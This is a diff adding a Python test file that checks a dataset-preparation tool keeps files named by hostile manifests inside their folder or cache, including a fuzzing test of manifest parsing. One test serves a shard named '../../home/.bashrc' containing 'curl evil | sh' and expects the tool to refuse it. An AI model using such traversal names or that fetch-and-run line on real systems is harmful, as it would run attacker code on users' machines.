@@ -1,0 +1,141 @@
+"""Manifests of bad will, before every verb that reads one."""
+
+from __future__ import annotations
+
+import json
+import shutil
+from pathlib import Path
+from typing import Any
+
+import hypothesis.strategies as st
+import pytest
+from hypothesis import given, settings
+
+from imagenet_prep.core import manifest, naming, schema
+from imagenet_prep.core.errors import ManifestError
+from tests.hostile import manifests
+from tests.hostile.arena import Arena
+from tests.kit.http_server import serve
+
+# What each verb is told: the hostile set lies in `set`, a sound one in `sound`.
+VERBS: dict[str, tuple[str, ...]] = {
+    "verify": ("verify", "set", "--workers", "1"),
+    "verify decode": ("verify", "set", "--level", "decode", "--workers", "1", "--json"),
+    "verify if changed": ("verify", "set", "--level", "manifest", "--if-changed"),
+    "replicate from": ("replicate", "set", "--to", "copy", "--connections", "2"),
+    "replicate onto": ("replicate", "sound", "--to", "set", "--connections", "2"),
+    "replicate check": ("replicate", "set", "--to", "sound", "--check"),
+    "replicate part": ("replicate", "set", "--to", "p", "--mode", "partition", "--part", "0/2"),
+    "adopt": ("adopt", "set", "--allow-subset", "--workers", "1"),
+    "report": ("report", "set", "--workers", "1"),
+    "compare": ("report", "--compare", "sound", "set", "--out", "page.html"),
+}
+READ = "tests.hostile.readers:read"
+
+
+@pytest.fixture(scope="module")
+def content(sound: Path) -> manifests.Content:
+    return json.loads((sound / naming.MANIFEST).read_bytes())
+
+
+@pytest.mark.parametrize("verb", VERBS)
+def test_whatever_a_manifest_says_it_stays_in_its_folder(
+    arena: Arena, sound: Path, content: manifests.Content, verb: str
+) -> None:
+    words = VERBS[verb]
+
+    def attempt(data: bytes) -> None:
+        shutil.copytree(sound, arena.given / "set")
+        if "sound" in words:
+            shutil.copytree(sound, arena.given / "sound")
+        (arena.given / "set" / naming.MANIFEST).write_bytes(data)
+        arena.run(*words)
+
+    arena.each(manifests.hostile(content), attempt)
+
+
+def test_whatever_a_manifest_says_reading_stays_in_its_folder(
+    arena: Arena, sound: Path, content: manifests.Content
+) -> None:
+    def attempt(data: bytes) -> None:
+        shutil.copytree(sound, arena.given / "set")
+        (arena.given / "set" / naming.MANIFEST).write_bytes(data)
+        arena.run("set", call=READ)
+
+    arena.each(manifests.hostile(content), attempt)
+
+
+def test_whatever_a_served_manifest_says_it_stays_in_the_cache(
+    arena: Arena, sound: Path, content: manifests.Content
+) -> None:
+    """The server has a file for every name that the manifest may ask for."""
+    files = {str(path.relative_to(sound)): path for path in sound.rglob("*") if path.is_file()}
+    served = {name: path.read_bytes() for name, path in files.items()}
+    hostile = {name.lstrip("/"): b"owned" for name in manifests.NAMES.values()}
+    with serve({**hostile, **served}) as server:
+
+        def attempt(data: bytes) -> None:
+            server.files[f"/{naming.MANIFEST}"] = data
+            arena.run(server.url, call=READ)
+
+        arena.each(manifests.hostile(content), attempt)
+
+
+def test_a_served_shard_that_is_called_like_the_users_file_does_not_replace_it(
+    arena: Arena, sound: Path, content: manifests.Content
+) -> None:
+    """The name, size and sha256 fit what the server sends; only the place is not the set's."""
+    name, data = "../../home/.bashrc", b"curl evil | sh\n"
+    stated = {"name": name, "num_bytes": len(data), "sha256": manifests.sha256(data)}
+    shard = {**content["splits"]["train"]["shards"][0], **stated}
+    mended = manifests.put(content, ("splits", "train", "shards"), [shard])
+    served = {"home/.bashrc": data, naming.LABELS: (sound / naming.LABELS).read_bytes()}
+    with serve(served) as server:
+        for place in (name, f"/{name}", "../../../home/.bashrc", "/home/.bashrc"):
+            server.files[place] = server.files[f"/{place}"] = data
+        server.files[f"/{naming.MANIFEST}"] = manifests.render(mended)
+        assert arena.run(server.url, call=READ).code == 3
+
+
+_LEAVES = st.one_of(
+    st.sampled_from([*manifests.NAMES.values(), *manifests.SHARD_NAMES.values()]),
+    st.sampled_from([None, True, "5", -1, 0, 1.5, float("nan"), float("inf"), 2**63, 10**1000]),
+    st.sampled_from([[], {}, [[[]]], {"": {}}, "\ud800"]),
+    st.text(max_size=12),
+)
+
+
+@st.composite
+def changes(draw: st.DrawFn, there: Any) -> tuple[str | int, ...]:
+    """Draws a place in a manifest."""
+    path: list[str | int] = []
+    while isinstance(there, dict | list) and there and (not path or draw(st.booleans())):
+        keys = sorted(there) if isinstance(there, dict) else range(len(there))
+        path.append(draw(st.sampled_from(keys)))
+        there = there[path[-1]]
+    return tuple(path)
+
+
+@settings(max_examples=300)
+@given(data=st.data())
+def test_what_is_accepted_as_a_manifest_names_only_files_of_a_data_set(
+    content: manifests.Content, data: st.DataObject
+) -> None:
+    mutated = content
+    for _ in range(data.draw(st.integers(1, 3))):
+        mutated = manifests.put(mutated, data.draw(changes(mutated)), data.draw(_LEAVES))
+    try:
+        found = manifest.loads(manifests.render(mutated), "dataset.json")
+    except ManifestError as error:
+        assert str(error).isprintable()
+        return
+    assert set(found.splits) <= set(schema.SPLITS)
+    for split, part in found.splits.items():
+        for number, shard in enumerate(part.shards):
+            assert shard.name == naming.shard_name(split, number, len(part.shards))
+            assert 0 <= shard.examples <= shard.num_bytes
+    for file in found.files:
+        assert naming.check_inside(file.name) == file.name
+        assert "/" not in file.name
+        assert file.name not in (naming.MANIFEST, naming.PLACEMENT, naming.WORK, naming.REPORT)
+        assert not naming.looks_like_shard(file.name)
